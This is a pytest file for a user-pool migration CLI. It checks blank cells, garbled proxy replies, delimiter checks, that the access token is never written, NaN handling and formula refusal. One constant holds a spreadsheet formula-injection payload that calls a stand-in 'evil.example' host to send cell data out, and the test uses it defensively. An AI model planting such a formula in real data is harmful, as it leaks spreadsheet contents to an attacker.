"""The "Trust" issue, end to end through the real CLI: what reaches the pool is
what the input and the mapping say, and nothing else.

Each run goes through ``migrate.cli.cli`` (click's CliRunner) against an emulated
pool on 127.0.0.1 with a real boto3 client, or a loopback server that answers
like a broken proxy. The pool's users are read before and after each run.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest

from migrate.mapping import VERIFIED_FLAGS, Mapping, load_mapping
from migrate.sandbox import EmulatedPool, Quotas
from migrate.source import open_source
from tests.cli.helpers import invoke, read_report, real_run_args, write
from tests.conftest import MAPPINGS, SAMPLES
from tests.support.fake_cognito import FakeCognito

SCHEMA_FILE = SAMPLES / "pool-schema.json"
SCHEMA = json.loads(SCHEMA_FILE.read_text())
BACKFILL = MAPPINGS / "backfill-tenant.toml"
SAMPLE_MAPPINGS = sorted(MAPPINGS.glob("*.toml"))
#: Columns of samples/users.csv, in order.
COLUMNS = [
    "username",
    "sub",
    "email",
    "phone",
    "first_name",
    "last_name",
    "tenant",
    "plan",
    "newsletter",
    "seats",
    "birthdate",
    "access_token",
]
#: Columns that identify the row and authorise its call: never blanked.
KEYS = {"username", "access_token"}


@pytest.fixture(autouse=True)
def _in_tmp_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def pool() -> Iterator[EmulatedPool]:
    unlimited = Quotas(
        user_update=None, user_list=None, user_read=None, user_pool_read=None
    )
    with EmulatedPool(quotas=unlimited) as emulated:
        yield emulated


# --- every sample mapping: a blank cell changes nothing -----------------------------


def cells(i: int) -> dict[str, str]:
    """A complete, valid input row for user ``i`` (every sample column)."""
    return {
        "username": f"u{i:02d}",
        "sub": "",
        "email": f"u{i:02d}@example.com",
        "phone": f"(415) 555-01{i:02d}",
        "first_name": "Ann",
        "last_name": f"Lee{i}",
        "tenant": f"tenant-{i}",
        "plan": "Gold",
        "newsletter": "yes",
        "seats": str(i + 2),
        "birthdate": "1990-03-14",
        "access_token": f"tok-{i:02d}-abcdefghijklmnop",
    }


def current(i: int) -> dict[str, str]:
    """What user ``i`` holds before the run: all different from the input."""
    return {
        "username": f"u{i:02d}",
        "email": f"u{i:02d}@example.com",
        "email_verified": "false",
        "phone_number": f"+1650555{i:04d}",
        "phone_number_verified": "false",
        "name": "Old Name",
        "custom:tenant_id": "old-tenant",
        "custom:plan": "old-plan",
        "custom:legacy_flag": "legacy",
        "custom:newsletter": "false",
        "custom:seats": "1",
        "birthdate": "1970-01-01",
    }


def blank_sets(mapping: Mapping) -> list[set[str]]:
    """For each attribute that reads columns, those columns; then all of them."""
    sets = [
        set(rule.source_columns()) - KEYS
        for rule in mapping.attributes.values()
        if set(rule.source_columns()) - KEYS
    ]
    everything = set().union(*sets) if sets else set()
    return [*sets, everything] if everything else sets


def blank_attributes(mapping: Mapping, blanked: set[str]) -> set[str]:
    """Attributes with no value when ``blanked`` columns are blank."""
    return {
        name
        for name, rule in mapping.attributes.items()
        if rule.source_columns()
        and set(rule.source_columns()) <= blanked | KEYS
        and set(rule.source_columns()) & blanked
    }


@pytest.mark.parametrize("diff", [False, True], ids=["plain", "diff"])
@pytest.mark.parametrize("path", SAMPLE_MAPPINGS, ids=lambda p: p.stem)
def test_blank_cells_change_nothing_and_set_no_verified_flag(
    pool: EmulatedPool, path: Path, diff: bool
) -> None:
    mapping = load_mapping(path)
    sets = blank_sets(mapping)
    assert sets, f"{path.name} maps no column"
    rows: list[dict[str, str]] = []
    blanked: dict[str, set[str]] = {}
    for i, columns in enumerate(sets, start=1):
        row = cells(i)
        for column in columns:
            # Empty and white space both count as blank.
            row[column] = "" if i % 2 else "   "
        rows.append(row)
        blanked[row["username"]] = columns
    full = cells(len(sets) + 1)  # a complete row: the run does write
    rows.append(full)
    # Its phone is what the user holds already: with a diff, an unchanged
    # number must not be marked verified by the flag alone.
    same = cells(len(sets) + 2)
    same["phone"] = "+1 650 555 " + f"{len(sets) + 2:04d}"
    rows.append(same)
    users = [current(i) for i in range(1, len(rows) + 1)]
    pool_id = pool.seed(
        SCHEMA,
        [
            u | {"access_token": r["access_token"]}
            for u, r in zip(users, rows, strict=True)
        ],
    )
    data = pl.DataFrame(rows, schema=dict.fromkeys(COLUMNS, pl.String))
    data.write_csv("in.csv")
    before = {
        u["username"]: pool.user_attributes(pool_id, u["username"]) for u in users
    }

    args: list[str | Path] = [
        "run",
        "in.csv",
        "-m",
        path,
        *real_run_args(pool.endpoint_url, pool_id),
        "--yes",
        "--quiet",
        "--rate",
        "1000",
    ]
    result = invoke(*args, *(["--diff"] if diff else []))
    assert result.exit_code == 0, result.output

    after = {name: pool.user_attributes(pool_id, name) for name in before}
    deleted = set(mapping.delete)
    for name, columns in blanked.items():
        for attribute in blank_attributes(mapping, columns):
            assert after[name].get(attribute) == before[name].get(attribute), (
                f"{path.name}: {name} had {columns} blank, yet {attribute} changed"
            )
            flag = f"{attribute}_verified"
            if flag in VERIFIED_FLAGS:
                assert after[name].get(flag) == before[name].get(flag), (
                    f"{path.name}: {name} had no {attribute}, yet {flag} changed"
                )
    everything = sets[-1]
    all_blank = next(n for n, c in blanked.items() if c == everything)
    assert {k: v for k, v in after[all_blank].items() if k not in deleted} == {
        k: v for k, v in before[all_blank].items() if k not in deleted
    }
    # No verified flag changed for a row that had no value for its attribute.
    for name in before:
        missing = blank_attributes(mapping, blanked.get(name, set()))
        for flag, attribute in VERIFIED_FLAGS.items():
            if attribute in missing or attribute not in mapping.attributes:
                assert after[name].get(flag) == before[name].get(flag), (
                    f"{path.name}: {name}'s {flag} changed without {attribute}"
                )
    # The complete row did change (the run is not a no-op).
    assert after[full["username"]] != before[full["username"]]
    if "phone_number" in mapping.attributes:
        assert after[full["username"]]["phone_number_verified"] == "true"
        # Found unchanged, by the snapshot or by the read before the write:
        # the phone is not sent, so neither is its flag.
        assert after[same["username"]]["phone_number_verified"] == "false"


# --- a proxy that answers 200 with garbage -------------------------------------------


@pytest.mark.parametrize(
    "body",
    [b"<html><body>Welcome to the guest network</body></html>", b"OK", b"[]"],
    ids=["html", "text", "json-list"],
)
def test_a_garbled_200_is_never_updated(body: bytes) -> None:
    rows = "".join(f"u{i:02d},t{i}\n" for i in range(1, 21))
    write("in.csv", "username,tenant\n" + rows)
    # The pool itself answers (a preflight reads it); every write is garbled.
    with FakeCognito(status=200, replies={"DescribeUserPool": (200, SCHEMA)}) as fake:
        fake.raw = body
        result = invoke(
            "run",
            "in.csv",
            "-m",
            BACKFILL,
            "--schema",
            SCHEMA_FILE,
            *real_run_args(fake.url, "us-east-1_SAMPLE0001"),
            "--max-attempts",
            "2",
            "--rate",
            "1000",
            "--yes",
            "--quiet",
        )
    assert result.exit_code == 1, result.output
    report = read_report("report.csv")
    assert len(report) == 20
    assert {row["status"] for row in report} == {"failed_retryable"}
    assert {row["error_code"] for row in report} == {"MalformedResponse"}
    assert {row["attempts"] for row in report} == {"2"}


# --- --delimiter: one check, one message, for every command ---------------------------


@pytest.mark.parametrize("delimiter", ["::", "", '"', "\n"])
@pytest.mark.parametrize(
    "mode",
    [
        ["validate", "--schema", str(SCHEMA_FILE)],
        ["run", "--dry-run", "--schema", str(SCHEMA_FILE)],
        ["run", "--sandbox", "--schema", str(SCHEMA_FILE)],
        [
            "run",
            "--schema",
            str(SCHEMA_FILE),
            "--user-pool-id",
            "us-east-1_SAMPLE0001",
            "--endpoint-url",
            "http://127.0.0.1:9",
            "--yes",
        ],
    ],
    ids=["validate", "dry-run", "sandbox", "real"],
)
def test_a_bad_delimiter_is_a_usage_error_everywhere(
    delimiter: str, mode: list[str]
) -> None:
    write("in.csv", "username,tenant\nalice,acme\n")
    command, *options = mode
    result = invoke(
        command, "in.csv", "-m", BACKFILL, *options, "--delimiter", delimiter
    )
    assert result.exit_code == 2, result.output
    assert result.output.endswith(
        "Error: the delimiter must be one ASCII character other than a double "
        f"quote or a line break, got {delimiter!r}\n"
    )


def test_a_bad_delimiter_stops_a_real_run_before_any_call() -> None:
    write("in.csv", "username,tenant\nalice,acme\n")
    with FakeCognito(status=200) as fake:
        result = invoke(
            "run",
            "in.csv",
            "-m",
            BACKFILL,
            *real_run_args(fake.url, "us-east-1_SAMPLE0001"),
            "--yes",
            "--delimiter",
            "::",
        )
        assert result.exit_code == 2, result.output
        assert fake.requests == []  # not even DescribeUserPool


# --- the token column is only the token ----------------------------------------------


def test_a_mapping_that_writes_the_token_is_refused_before_anything(
    pool: EmulatedPool,
) -> None:
    token = "tok-ZZsecretZZ-abcdefghijklmnop"
    write("in.csv", f"username,plan,access_token\nalice,gold,{token}\n")
    write(
        "leak.toml",
        '[user]\ncolumn = "username"\n\n[options]\napi = "token"\n'
        'token_column = "access_token"\n\n'
        '[attributes."custom:plan"]\ncolumn = "plan"\n\n'
        '[attributes.name]\ntemplate = "{plan} {access_token}"\n',
    )
    pool_id = pool.seed(SCHEMA, [{"username": "alice", "access_token": token}])
    before = pool.user_attributes(pool_id, "alice")
    for args in (
        ["validate", "in.csv", "-m", "leak.toml", "--schema", SCHEMA_FILE],
        ["run", "in.csv", "-m", "leak.toml", "--dry-run", "--schema", SCHEMA_FILE],
        [
            "run",
            "in.csv",
            "-m",
            "leak.toml",
            *real_run_args(pool.endpoint_url, pool_id),
            "--yes",
        ],
    ):
        result = invoke(*args)
        assert result.exit_code == 2, result.output
        assert token not in result.output
        assert result.output == (
            "Error: leak.toml: [attributes.name] template field 'access_token' is "
            "the token column ([options] token_column): an access token only "
            "authorises the call and is never written to the pool, the job file "
            "or the report; read another column\n"
        )
    assert pool.user_attributes(pool_id, "alice") == before
    assert not Path("job.sqlite").exists()
    assert not any(
        token in p.read_text(errors="replace")
        for p in Path().glob("*.csv")
        if p.name != "in.csv"
    )


# --- a failures report fed back as input ---------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("format", ["csv", "parquet", "jsonl"])
def test_a_report_fed_back_keeps_a_formula_out_of_the_pool(format: str) -> None:
    write(
        "in.csv",
        f'username,tenant\nalice,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
        "bob,'quoted\ncarol,acme\n",
    )
    first = invoke(
        "run",
        "in.csv",
        "-m",
        BACKFILL,
        "--dry-run",
        "--schema",
        SCHEMA_FILE,
        "--report",
        f"first.{format}",
    )
    assert first.exit_code == 1, first.output
    # The report as input, with the same mapping (the README's retry path).
    again = invoke(
        "run",
        f"first.{format}",
        "-m",
        BACKFILL,
        "--dry-run",
        "--schema",
        SCHEMA_FILE,
        "--report",
        "again.csv",
    )
    assert again.exit_code == 1, again.output
    report = read_report("again.csv")
    assert [(r["user"], r["status"], r["error_code"]) for r in report] == [
        ("alice", "invalid", "formula"),
        ("bob", "would_update", ""),
        ("carol", "would_update", ""),
    ]
    # What the second run read (and would send) is the input as it was: the
    # formula itself (refused above), a quote the input had, and no other.
    source = open_source("again.csv")
    read = pl.concat(list(source.batches())).select("username", "tenant").rows()
    assert read == [("alice", FORMULA), ("bob", "'quoted"), ("carol", "acme")]
    # No example request carries the formula, with or without a quote.
    assert "=HYPERLINK" not in again.output.split("Example requests:")[-1]


# --- Parquet floats: whole numbers, NaN and infinity ---------------------------------


def test_parquet_floats_whole_numbers_pass_nan_and_infinity_are_invalid() -> None:
    pl.DataFrame(
        {
            "username": ["ann", "bob", "cy", "dee", "eve"],
            "seats": [5.0, float("nan"), 2.5, float("inf"), None],
        }
    ).write_parquet("in.parquet")
    write(
        "seats.toml",
        '[user]\ncolumn = "username"\n\n'
        '[attributes."custom:seats"]\ncolumn = "seats"\n',
    )
    result = invoke(
        "run",
        "in.parquet",
        "-m",
        "seats.toml",
        "--dry-run",
        "--schema",
        SCHEMA_FILE,
        "--report",
        "report.csv",
    )
    assert result.exit_code == 1, result.output
    report = {r["user"]: r for r in read_report("report.csv")}
    assert [(u, r["status"], r["error_code"]) for u, r in report.items()] == [
        ("ann", "would_update", ""),
        ("bob", "invalid", "not_finite"),
        ("cy", "invalid", "not_a_number"),
        ("dee", "invalid", "not_finite"),
        ("eve", "skipped", "nothing_to_change"),
    ]
    assert "custom:seats='5'" in result.output
    assert report["bob"]["error_message"] == (
        "row 2, column 'seats' -> custom:seats: NaN (not a number) in a "
        "floating-point column is no value: store a null for a missing value (or "
        "fix the number)"
    )
    # The report shows no made-up "NaN" text a retry would send.
    assert report["bob"]["seats"] == ""
